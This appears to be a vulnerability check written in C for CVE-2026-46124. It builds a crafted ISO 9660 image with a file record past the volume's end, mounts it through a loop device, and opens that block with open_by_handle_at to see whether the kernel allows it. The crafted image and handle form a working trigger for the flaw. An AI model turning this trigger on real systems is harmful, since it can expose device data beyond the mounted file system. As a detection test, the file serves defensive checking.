// SPDX-License-Identifier: Apache-2.0
/*
 * CVE-2026-46124 (fs/isofs/export.c, a module): a file handle of a CD's file system may name a block behind the end of that
 * file system. Whatever lies there on the device is opened as a file.
 */
#define _GNU_SOURCE
#include "holes.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/loop.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <unistd.h>

/* Where things are, in blocks: ECMA-119 has the first descriptor at 16; that of a file follows behind the end. */
#define BLOCK 2048
#define PRIMARY 16
#define TERMINATOR 17
#define ROOT 18
#define END 20
#define BEHIND 22
#define BLOCKS 24

/* Places in a primary descriptor and in a directory's record (ECMA-119 8.4 and 9.1), in bytes. */
#define VOLUME_SIZE 80
#define BLOCK_BYTES 128
#define ROOT_RECORD 156
#define RECORD 34

/* A handle of isofs without a parent (fs/isofs/export.c, struct isofs_fid). */
#define HANDLE_TYPE 1
struct iso_handle {
	struct file_handle head;
	uint32_t block;
	uint16_t offset;
	uint16_t parent_offset;
	uint32_t generation;
};

static void number(unsigned char *at, uint32_t value)
{
	uint32_t big = __builtin_bswap32(value);

	memcpy(at, &value, 4);
	memcpy(at + 4, &big, 4);
}

/* The record of something in one block, in both byte orders as the standard wants it. */
static void record(unsigned char *at, uint32_t block, int is_folder)
{
	at[0] = RECORD;
	number(at + 2, block);
	number(at + 10, BLOCK);
	at[25] = is_folder ? 2 : 0;
	at[32] = 1;
	at[33] = is_folder ? 0 : 'A';
}

static void descriptor(unsigned char *at, unsigned char type)
{
	at[0] = type;
	memcpy(at + 1, "CD001\1", 6);
}

/* A file system with an empty root folder, in memory. */
static int make_image(void)
{
	static unsigned char image[BLOCKS][BLOCK];
	unsigned char *primary = image[PRIMARY];
	int fd = memfd_create("iso", MFD_CLOEXEC);

	descriptor(primary, 1);
	number(primary + VOLUME_SIZE, END);
	primary[BLOCK_BYTES + 1] = primary[BLOCK_BYTES + 2] = BLOCK >> 8;
	record(primary + ROOT_RECORD, ROOT, 1);
	descriptor(image[TERMINATOR], 255);
	record(image[ROOT], ROOT, 1);
	record(image[BEHIND], BEHIND + 1, 0);
	if (fd < 0 || write(fd, image, sizeof(image)) != sizeof(image))
		cannot_tell("no file in memory");
	return fd;
}

/* Has the image stand for a disk as long as it is mounted. */
static void mount_image(int image, const char *place)
{
	struct loop_config config = { .fd = image };
	int control = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
	int number = control < 0 ? -1 : ioctl(control, LOOP_CTL_GET_FREE);
	char path[32];
	int disk;

	if (number < 0)
		cannot_tell("no loop device");
	snprintf(path, sizeof(path), "/dev/loop%d", number);
	disk = open(path, O_RDONLY | O_CLOEXEC);
	config.info.lo_flags = LO_FLAGS_READ_ONLY | LO_FLAGS_AUTOCLEAR;
	if (disk < 0 || ioctl(disk, LOOP_CONFIGURE, &config))
		cannot_tell("the loop device does not take the image");
	if (mount(path, place, "iso9660", MS_RDONLY, NULL))
		cannot_tell("the image is not mounted");
	close(disk);
	close(control);
}

static int open_handle(int mount, uint32_t block)
{
	struct iso_handle handle = { .block = block };

	handle.head.handle_bytes = sizeof(handle) - sizeof(handle.head);
	handle.head.handle_type = HANDLE_TYPE;
	return open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
}

enum verdict iso_handle(void)
{
	static const char *const MODULES[] = { "loop", "isofs", NULL };
	/* Any folder that is there on every system; the mount is on top of it for this process alone. */
	static const char PLACE[] = "/tmp";
	int image = make_image();
	int top;

	need_modules(MODULES);
	enter_own(CLONE_NEWNS);
	mount_image(image, PLACE);
	top = open(PLACE, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (top < 0 || open_handle(top, ROOT) < 0)
		cannot_tell("the root folder's handle is refused");
	if (open_handle(top, BEHIND) >= 0)
		return OPEN;
	if (errno != ESTALE)
		cannot_tell("open_by_handle_at");
	return CLOSED;
}
